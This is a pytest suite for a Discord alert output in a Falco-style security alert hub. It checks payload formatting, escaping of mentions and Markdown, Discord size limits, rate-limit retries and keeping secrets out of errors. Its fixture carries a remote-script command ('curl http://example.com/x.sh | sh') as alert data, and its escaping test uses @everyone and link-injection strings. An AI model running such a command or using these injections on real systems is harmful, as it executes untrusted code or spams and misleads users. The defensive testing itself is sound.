"""The Discord output against a real HTTP receiver on loopback, and through the real hub."""

from __future__ import annotations

import os
import subprocess
import sys
import time
import traceback
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from pydantic import ValidationError

from outputs.base import PermanentError, RetryableError
from outputs.discord import COLORS, DiscordConfig, DiscordOutput
from sidekick.alert import Alert, Priority
from sidekick.config import ConfigError, load_config
from tests.hubproc import HubProcess, falco_alert
from tests.receiver import Receiver, Request
from tests.support import free_port
from tests.test_output_slack import tls_server

TOKEN = "T0KEN-in-the-discord-url-91ab"
ZWSP = "\u200b"
TIME = "2023-11-14 22:13:20.123456789 +0000 UTC"  # Falcosidekick's form of the alert's time
OUTPUT = "A shell was spawned in a container (user=root) é ✓"


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with Receiver() as rx:
        rx.respond_with(204, body=b"")  # what Discord answers a webhook without ?wait=true
        yield rx


def make_alert(n: int = 0, **changes: Any) -> Alert:
    alert = Alert(
        rule="Terminal shell in container",
        priority=Priority.WARNING,
        time_ns=1_700_000_000_123_456_789,
        output_fields={
            "proc.name": "bash",
            "proc.cmdline": "bash -c 'curl http://example.com/x.sh | sh'",
            "proc.pid": 4242,
            "evt.num": n,
            "fd.name": None,
            "proc.is_exe_writable": False,
            "proc.aname": ["sshd", "bash"],
        },
        output=OUTPUT,
        tags=["shell", "container"],
        hostname="node-1",
        uuid=f"00000000-0000-4000-8000-{n:012d}",
    )
    for key, value in changes.items():
        setattr(alert, key, value)
    return alert


def hook_url(rx: Receiver) -> str:
    return f"{rx.url}/api/webhooks/123/{TOKEN}"


def discord(**keys: Any) -> DiscordOutput:
    """The output; `async with` starts and closes it."""
    return DiscordOutput(DiscordConfig(**keys))


async def post(rx: Receiver, alert: Alert, **keys: Any) -> Request:
    before = rx.count
    async with discord(webhookurl=hook_url(rx), **keys) as out:
        await out.send([alert])
    return rx.wait_for(before + 1)[-1]


def field(name: str, value: str, inline: bool = True) -> dict[str, Any]:
    return {"name": name, "value": value, "inline": inline}


def assert_clean(exc: BaseException, port: int) -> None:
    everything = str(exc) + repr(exc) + "".join(traceback.format_exception(exc))
    for secret in (TOKEN, "127.0.0.1", f":{port}", "/api/webhooks"):
        assert secret not in everything, f"{secret!r} leaked into {everything!r}"


def within_limits(message: dict[str, Any]) -> None:
    """Discord's embed limits (a 400 beyond any of them)."""
    [embed] = message["embeds"]
    fields = embed["fields"]
    assert len(fields) <= 25
    assert len(embed.get("description", "")) <= 4096
    for item in fields:
        assert 1 <= len(item["name"]) <= 256 and 1 <= len(item["value"]) <= 1024
    total = len(embed.get("description", ""))
    total += sum(len(item["name"]) + len(item["value"]) for item in fields)
    assert total <= 6000


# -- the payload ---------------------------------------------------------------------------


async def test_exact_json(receiver: Receiver) -> None:
    req = await post(receiver, make_alert(), icon="https://example.com/falco.png")
    assert req.json == {
        "avatar_url": "https://example.com/falco.png",
        "embeds": [
            {
                "description": OUTPUT,
                "color": 12745742,
                "fields": [
                    field("rule", "Terminal shell in container"),
                    field("priority", "Warning"),
                    field("source", "syscalls"),
                    field("hostname", "node-1"),
                    field("evt.num", "```0```"),
                    field("fd.name", "```<NA>```"),
                    field("proc.aname", "```sshd, bash```"),
                    field("proc.cmdline", "```bash -c 'curl http://example.com/x.sh | sh'```"),
                    field("proc.is\\_exe\\_writable", "```false```"),
                    field("proc.name", "```bash```"),
                    field("proc.pid", "```4242```"),
                    field("tags", "container, shell"),
                    field("time", TIME),
                ],
            }
        ],
        "allowed_mentions": {"parse": []},
    }
    assert req.status == 204
    assert req.method == "POST"
    assert req.path == f"/api/webhooks/123/{TOKEN}"
    assert req.headers["content-type"] == "application/json"
    assert req.headers["user-agent"] == "Lanner"


async def test_without_hostname_tags_output_or_icon(receiver: Receiver) -> None:
    alert = make_alert(hostname="", tags=[], output="", output_fields={"": "", "k": "v"})
    req = await post(receiver, alert)
    assert req.json == {
        "embeds": [
            {
                "color": 12745742,
                "fields": [
                    field("rule", "Terminal shell in container"),
                    field("priority", "Warning"),
                    field("source", "syscalls"),
                    field(ZWSP, "``````"),  # Discord refuses empty names
                    field("k", "```v```"),
                    field("time", TIME),
                ],
            }
        ],
        "allowed_mentions": {"parse": []},
    }


async def test_colour_of_every_priority(receiver: Receiver) -> None:
    expected = {
        "Emergency": 15158332, "Alert": 11027200, "Critical": 15105570, "Error": 15844367,
        "Warning": 12745742, "Notice": 3066993, "Informational": 3447003, "Debug": 12370112,
    }
    assert {p.label: c for p, c in COLORS.items()} == expected
    async with discord(webhookurl=hook_url(receiver)) as out:
        await out.send([make_alert(priority=p) for p in Priority])
    requests = receiver.wait_for(len(Priority))
    seen = {r.json["embeds"][0]["fields"][1]["value"]: r.json["embeds"][0]["color"]
            for r in requests}
    assert seen == expected


# -- escaping ------------------------------------------------------------------------------


async def test_hostile_strings_arrive_as_text(receiver: Receiver) -> None:
    hostile = "@everyone [click](http://evil.example) <@123> *b* _i_ ~s~ ||x|| # h > q \\ `t`"
    escaped = (
        "\\@everyone \\[click\\](http://evil.example) \\<\\@123\\> \\*b\\* \\_i\\_ \\~s\\~ "
        "\\|\\|x\\|\\| \\# h \\> q \\\\ \\`t\\`"
    )
    alert = make_alert(
        output=hostile, rule="**rule**", hostname="<@&42>", tags=["@here"],
        output_fields={"proc.cmdline": "echo ```\n@everyone [x](http://evil)```", "**k**": "v"},
    )
    req = await post(receiver, alert)
    [embed] = req.json["embeds"]
    assert embed["description"] == escaped
    assert embed["fields"] == [
        field("rule", "\\*\\*rule\\*\\*"),
        field("priority", "Warning"),
        field("source", "syscalls"),
        field("hostname", "\\<\\@&42\\>"),
        field("\\*\\*k\\*\\*", "```v```"),
        # a value cannot close its code block: each backtick is followed by a zero-width space
        field("proc.cmdline", f"```echo `{ZWSP}`{ZWSP}`{ZWSP}\n@everyone [x](http://evil)"
                              f"`{ZWSP}`{ZWSP}`{ZWSP}```"),
        field("tags", "\\@here"),
        field("time", TIME),
    ]
    assert req.json["allowed_mentions"] == {"parse": []}


# -- limits --------------------------------------------------------------------------------


async def test_forty_fields_and_a_10kb_command_line_get_through(receiver: Receiver) -> None:
    cmdline = "x" * 10_000
    fields: dict[str, Any] = {f"k8s.label.{i:02d}": f"value-{i}" for i in range(39)}
    fields["proc.cmdline"] = cmdline
    alert = make_alert(output=f"Shell (cmdline={cmdline})", output_fields=fields)
    req = await post(receiver, alert)
    assert req.ok
    within_limits(req.json)
    [embed] = req.json["embeds"]
    assert embed["description"] == f"Shell (cmdline={cmdline})"[:4095] + "…"
    names = [f["name"] for f in embed["fields"]]
    assert len(names) == 25
    # 4 + 18 output fields + tags + time + the count of what was left out
    assert names[:4] == ["rule", "priority", "source", "hostname"]
    assert names[4:22] == [f"k8s.label.{i:02d}" for i in range(18)]
    assert names[22:] == ["tags", "time", "more fields"]
    assert embed["fields"][-1] == field(
        "more fields", "22 output field(s) left out to fit Discord's limits", inline=False)


async def test_total_size_gives_way_from_the_output_fields(receiver: Receiver) -> None:
    fields = {f"f{i}": "y" * 2000 for i in range(10)}
    req = await post(receiver, make_alert(output="*" * 5000, output_fields=fields))
    within_limits(req.json)
    [embed] = req.json["embeds"]
    # escaping doubles the description; the cut keeps whole escapes and leaves room for the
    # fixed fields and the notice
    description = embed["description"]
    assert description == "\\*" * (len(description) // 2) + "…"
    assert len(description) > 4000
    values = [f["value"] for f in embed["fields"] if f["name"].startswith("f")]
    assert values == ["```" + "y" * 1017 + "…```"]  # 1,024 with the fences
    assert embed["fields"][-1]["value"] == "9 output field(s) left out to fit Discord's limits"


async def test_long_fixed_fields_are_cut_and_the_description_fills_the_rest(
    receiver: Receiver,
) -> None:
    alert = make_alert(rule="r" * 3000, hostname="h" * 3000, tags=[f"t{i:04d}" for i in range(900)],
                       output="o" * 9000, output_fields={"k": "v" * 900})
    req = await post(receiver, alert)
    assert req.ok
    within_limits(req.json)
    [embed] = req.json["embeds"]
    values = {f["name"]: f["value"] for f in embed["fields"]}
    assert values["rule"] == "r" * 1023 + "…"
    assert values["hostname"] == "h" * 1023 + "…"
    assert values["tags"] == ", ".join(f"t{i:04d}" for i in range(900))[:1023] + "…"
    # the output field does not fit beside them; the notice does, and the description takes
    # what is left of the 6,000 characters
    assert list(values) == ["rule", "priority", "source", "hostname", "tags", "time",
                            "more fields"]
    assert values["more fields"] == "1 output field(s) left out to fit Discord's limits"
    used = sum(len(f["name"]) + len(f["value"]) for f in embed["fields"])
    assert embed["description"] == "o" * (6000 - used - 1) + "…"


async def test_code_block_values_and_names_are_cut(receiver: Receiver) -> None:
    req = await post(receiver, make_alert(output_fields={"k" * 400: "`" * 2000}))
    within_limits(req.json)
    [code] = [f for f in req.json["embeds"][0]["fields"] if f["name"].startswith("k")]
    assert code["name"] == "k" * 255 + "…"
    assert code["value"] == "```" + f"`{ZWSP}" * 508 + "…```"  # 1,023 characters


# -- errors and rate limits ----------------------------------------------------------------


async def test_429_uses_the_json_retry_after(receiver: Receiver) -> None:
    receiver.respond_with(429, {"Retry-After": "3"}, {"retry_after": 2.5, "global": False},
                          times=1)
    receiver.respond_with(429, body={"retry_after": 0.25, "global": True}, times=1)
    receiver.respond_with(429, {"Retry-After": "4"}, b"not json", times=1)
    waits = []
    for _ in range(3):  # a new output each time: not held by the wait the last answer asked
        async with discord(webhookurl=hook_url(receiver), timeout=5) as out:
            with pytest.raises(RetryableError) as info:
                await out.send([make_alert()])
        assert str(info.value) == "discord: HTTP 429"
        assert_clean(info.value, receiver.port)
        waits.append(info.value.retry_after)
    assert waits == [2.5, 0.25, 4.0]


async def test_429_holds_the_next_request(receiver: Receiver) -> None:
    receiver.respond_with(429, body={"retry_after": 0.6, "global": False}, times=1)
    async with discord(webhookurl=hook_url(receiver), timeout=5) as out:
        with pytest.raises(RetryableError):
            await out.send([make_alert()])
        await out.send([make_alert()])
    first, second = receiver.wait_for(2)
    assert second.received_at - first.received_at >= 0.55
    assert second.ok


async def test_empty_bucket_paces_the_next_request(receiver: Receiver) -> None:
    bucket = {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset-After": "0.5"}
    receiver.respond_with(204, bucket, b"", times=1)
    async with discord(webhookurl=hook_url(receiver), timeout=5) as out:
        await out.send([make_alert(1), make_alert(2)])
    first, second = receiver.wait_for(2)
    assert second.received_at - first.received_at >= 0.45
    # a longer wait than the timeout goes back to the queue without a request
    receiver.respond_with(204, {**bucket, "X-RateLimit-Reset-After": "30"}, b"", times=1)
    async with discord(webhookurl=hook_url(receiver), timeout=2) as out:
        await out.send([make_alert(3)])
        started = time.monotonic()
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert(4)])
        assert time.monotonic() - started < 0.5
    assert str(info.value) == "discord: rate limited"
    assert info.value.retry_after is not None and 29 < info.value.retry_after <= 30
    assert receiver.count == 3


@pytest.mark.parametrize("status", [408, 500, 502, 503])
async def test_retryable_statuses(receiver: Receiver, status: int) -> None:
    receiver.respond_with(status, {"Retry-After": "2"}, times=1)
    async with discord(webhookurl=hook_url(receiver)) as out:
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
    assert str(info.value) == f"discord: HTTP {status}"
    assert info.value.retry_after == 2.0


@pytest.mark.parametrize("status", [400, 401, 403, 404, 413, 302])
async def test_permanent_statuses(receiver: Receiver, status: int) -> None:
    receiver.respond_with(status, {"Location": "/elsewhere"},
                          {"message": "Unknown Webhook", "code": 10015}, times=1)
    async with discord(webhookurl=hook_url(receiver)) as out:
        with pytest.raises(PermanentError) as info:
            await out.send([make_alert()])
    assert str(info.value) == f"discord: HTTP {status}"
    assert receiver.count == 1  # redirects are not followed
    assert_clean(info.value, receiver.port)


async def test_connection_refused_and_timeout_are_retryable(receiver: Receiver) -> None:
    port = free_port()
    async with discord(webhookurl=f"http://127.0.0.1:{port}/api/webhooks/1/{TOKEN}") as out:
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
    assert str(info.value) == "discord: connection failed"
    assert_clean(info.value, port)
    receiver.respond_with(204, body=b"", delay=1.5, times=1)
    async with discord(webhookurl=hook_url(receiver), timeout=0.3) as out:
        started = time.monotonic()
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
        assert time.monotonic() - started < 1.4
    assert str(info.value) == "discord: timeout"
    assert_clean(info.value, receiver.port)


async def test_checkcert(tmp_path: Path) -> None:
    async with tls_server(tmp_path) as (url, bodies):
        async with discord(webhookurl=url) as out:
            with pytest.raises(RetryableError):
                await out.send([make_alert()])  # the CA is not trusted
        assert bodies == []
        async with discord(webhookurl=url, checkcert=False) as out:
            await out.send([make_alert()])
        assert len(bodies) == 1


# -- config and secrets --------------------------------------------------------------------


def test_secrets_stay_out_of_repr_and_dumps() -> None:
    config = DiscordConfig(webhookurl=f"https://discord.com/api/webhooks/1/{TOKEN}")
    dumped = config.model_dump(mode="json")
    for text in (repr(config), str(config), repr(dumped), config.model_dump_json()):
        assert TOKEN not in text
    assert dumped["webhookurl"] == "**********"
    with pytest.raises(ValidationError) as info:
        DiscordConfig(webhookurl=f"discord.com/api/webhooks/1/{TOKEN}")
    assert info.value.errors()[0]["loc"] == ("webhookurl",)
    assert TOKEN not in str(info.value)


def test_enabled_and_defaults() -> None:
    assert not DiscordOutput.enabled(DiscordConfig())
    assert not DiscordOutput.enabled(DiscordConfig(webhookurl=" "))
    assert DiscordOutput.enabled(DiscordConfig(webhookurl="https://discord.com/api/webhooks/1/x"))
    config = DiscordConfig()
    assert (config.icon, config.checkcert, config.timeout) == ("", True, 10.0)


def test_env_config() -> None:
    env = {"DISCORD_WEBHOOKURL": f"https://discord.com/api/webhooks/1/{TOKEN}",
           "DISCORD_ICON": "https://x.test/i.png", "DISCORD_MINIMUMPRIORITY": "notice",
           "DISCORD_CHECKCERT": "false", "DISCORD_TIMEOUT": "4", "DISCORD_TAGS": "a,b"}
    config = load_config(None, env=env).outputs["discord"]
    assert isinstance(config, DiscordConfig)
    assert config.webhookurl.get_secret_value() == env["DISCORD_WEBHOOKURL"]
    assert (config.icon, config.minimumpriority, config.checkcert) == (
        "https://x.test/i.png", Priority.NOTICE, False)
    assert (config.timeout, config.tags) == (4.0, ["a", "b"])


@pytest.mark.parametrize(
    ("env", "message"),
    [
        ({"DISCORD_WEBHOOKURL": f"ftp://discord.com/{TOKEN}"},
         "env DISCORD_WEBHOOKURL: must be an http:// or https:// URL"),
        ({"DISCORD_ICON": "avatar.png"}, "env DISCORD_ICON: must be an http:// or https:// URL"),
        ({"DISCORD_CHECKCERT": "sometimes"},
         "env DISCORD_CHECKCERT: Input should be a valid boolean"),
    ],
)
def test_bad_env_values_name_the_variable(env: dict[str, str], message: str) -> None:
    with pytest.raises(ConfigError) as info:
        load_config(None, env={"DISCORD_WEBHOOKURL": "https://discord.com/api/webhooks/1/x",
                               **env})
    assert message in str(info.value)
    assert TOKEN not in str(info.value)


def test_cli_reports_a_bad_url_without_traceback() -> None:
    env = {**os.environ, "DISCORD_WEBHOOKURL": f"discord.com/api/webhooks/1/{TOKEN}"}
    result = subprocess.run(
        [sys.executable, "-m", "sidekick.cli", "sidekick", "--check"],
        capture_output=True, text=True, env=env, timeout=60,
    )
    assert result.returncode == 2
    assert result.stderr == (
        "lanner: configuration error: env DISCORD_WEBHOOKURL: "
        "must be an http:// or https:// URL\n"
    )


# -- through the hub -----------------------------------------------------------------------


def hub_config(receiver: Receiver) -> dict[str, Any]:
    return {
        "discord": {"webhookurl": hook_url(receiver), "timeout": 2},
        "delivery": {"initialbackoff": "50ms", "maxbackoff": "1s"},
    }


def post_alert(hub: HubProcess, alert: dict[str, Any]) -> None:
    assert httpx.post(f"{hub.url}/", json=alert).status_code == 200


def test_hub_retries_429_and_5xx_then_delivers_once(tmp_path: Path, receiver: Receiver) -> None:
    receiver.respond_with(429, body={"retry_after": 0.8, "global": False}, times=1)
    receiver.respond_with(429, {"Retry-After": "1"}, b"", times=1)
    receiver.respond_with(500, times=2)
    receiver.respond_with(502, times=1)
    with HubProcess(tmp_path, hub_config(receiver)) as hub:
        post_alert(hub, falco_alert(1))
        receiver.wait_for(1, ok=True, timeout=20)
        time.sleep(0.3)  # a duplicate would arrive now
        requests = receiver.requests
        assert TOKEN not in hub.log()
    assert [r.status for r in requests] == [429, 429, 500, 500, 502, 204]
    assert requests[1].received_at - requests[0].received_at >= 0.75  # the body's 0.8 s
    assert requests[2].received_at - requests[1].received_at >= 0.95  # Retry-After: 1
    assert len({r.body for r in requests}) == 1
    assert "n=1)" in requests[-1].json["embeds"][0]["description"]


def test_hub_dead_letters_a_permanent_error(tmp_path: Path, receiver: Receiver) -> None:
    receiver.respond_with(404, body={"message": "Unknown Webhook", "code": 10015}, times=1)
    with HubProcess(tmp_path, hub_config(receiver)) as hub:
        alert = falco_alert(2)
        post_alert(hub, alert)
        deadline = time.monotonic() + 15
        while not (dead := httpx.get(f"{hub.url}/api/v1/deadletters").json()["deadletters"]):
            assert time.monotonic() < deadline, "never dead-lettered"
            time.sleep(0.05)
        assert dead[0]["alert"]["uuid"] == alert["uuid"]
        assert dead[0]["reason"] == "discord: HTTP 404"
    assert receiver.count == 1


def test_hub_from_env_and_test_endpoint(tmp_path: Path, receiver: Receiver) -> None:
    env = {"DISCORD_WEBHOOKURL": hook_url(receiver), "DISCORD_MINIMUMPRIORITY": "error",
           "DISCORD_ICON": "https://example.com/a.png"}
    with HubProcess(tmp_path, {}, env=env) as hub:
        post_alert(hub, falco_alert(3))  # Warning: below the minimum, not sent
        assert httpx.post(f"{hub.url}/test").status_code == 200
        [req] = receiver.wait_for(1)
        time.sleep(0.3)
        assert receiver.count == 1
    assert req.json["avatar_url"] == "https://example.com/a.png"
    [embed] = req.json["embeds"]
    assert embed["description"] == "This is a test from Lanner"
    assert embed["color"] == 12370112
    assert [(f["name"], f["value"]) for f in embed["fields"][:3]] == [
        ("rule", "Test rule"), ("priority", "Debug"), ("source", "internal")]
